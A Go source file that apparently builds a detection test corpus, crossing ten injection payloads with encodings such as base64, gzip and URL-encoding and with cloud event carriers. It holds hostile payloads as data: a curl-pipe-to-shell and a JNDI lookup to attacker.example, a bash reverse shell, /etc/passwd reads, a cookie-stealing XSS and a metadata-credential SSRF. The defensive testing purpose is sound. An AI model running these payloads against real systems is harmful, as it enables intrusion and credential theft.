package corpus

import "strings"

// attack is one payload of the matrix.
type attack struct{ name, class, payload string }

// attacks are the injections that are crossed with every encoding and every source: such as a rule set knows when it
// sees them plain, so that a miss is one of decoding.
var attacks = []attack{
	{"union", "sql injection", `1' UNION SELECT username,password FROM users-- -`},
	{"tautology", "sql injection", `x' OR '1'='1' -- `},
	{"script", "cross-site scripting", `"><script>alert(document.cookie)</script>`},
	{"onerror", "cross-site scripting", `<img src=x onerror=alert(document.domain)>`},
	{"substitution", "command injection", `$(curl http://attacker.example/x|sh)`},
	{"shell", "command injection", `x; cat /etc/passwd; /bin/bash -i >& /dev/tcp/203.0.113.9/4444 0>&1`},
	{"traversal", "path traversal", `../../../../etc/passwd`},
	{"jndi", "jndi lookup", `${jndi:ldap://attacker.example/a}`},
	{"metadata", "ssrf", `http://169.254.169.254/latest/meta-data/iam/security-credentials/`},
	{"node", "code injection", `require('child_process').execSync('cat /etc/passwd')`},
}

// encoding is one way to hide a payload in a text.
type encoding struct {
	name string
	wire []string
}

var encodings = []encoding{
	{"plain", nil},
	{"url-twice", []string{"url", "url"}},
	{"url-five", []string{"url", "url", "url", "url", "url"}},
	{"json", []string{"json note", "json body"}},
	{"escapes", []string{"escapes note"}},
	{"base64", []string{"base64"}},
	{"base64url", []string{"json note", "base64url"}},
	{"gzip", []string{"gzip", "base64"}},
	{"zlib", []string{"zlib", "base64"}},
	{"zip", []string{"zip-content", "base64"}},
	{"utf-16", []string{"utf-16", "base64"}},
	{"mail", []string{"mail-text", "ses-content"}},
}

// carrier is one event that takes any text.
type carrier struct {
	name, source, event string
	wire                []string
}

var carriers = []carrier{
	{"rest", "rest-v1", "rest-v1.body", []string{"json comment"}},
	{"url", "function-url", "function-url.query", []string{"url"}},
	{"queue", "sqs", "sqs.body", nil},
	{"topic", "sqs", "sqs.body", []string{"sns"}},
	{"stream", "kinesis", "kinesis.data", []string{"base64"}},
	{"bus", "eventbridge", "eventbridge.detail", nil},
}

// Matrix returns every attack in every encoding in every carrier.
func Matrix() []Case {
	var cases []Case
	for _, a := range attacks {
		for _, e := range encodings {
			for _, c := range carriers {
				wire := append(append([]string(nil), e.wire...), c.wire...)
				cases = append(cases, Case{
					ID: a.name + "/" + e.name + "/" + c.name, Source: c.source, Event: c.event,
					Class: a.class, Payload: a.payload, Wire: wire,
				})
			}
		}
	}
	return cases
}

// Part returns one part of the id of a case of the matrix: 0 the attack, 1 the encoding, 2 the carrier.
func (c Case) Part(n int) string { return strings.Split(c.ID, "/")[n] }
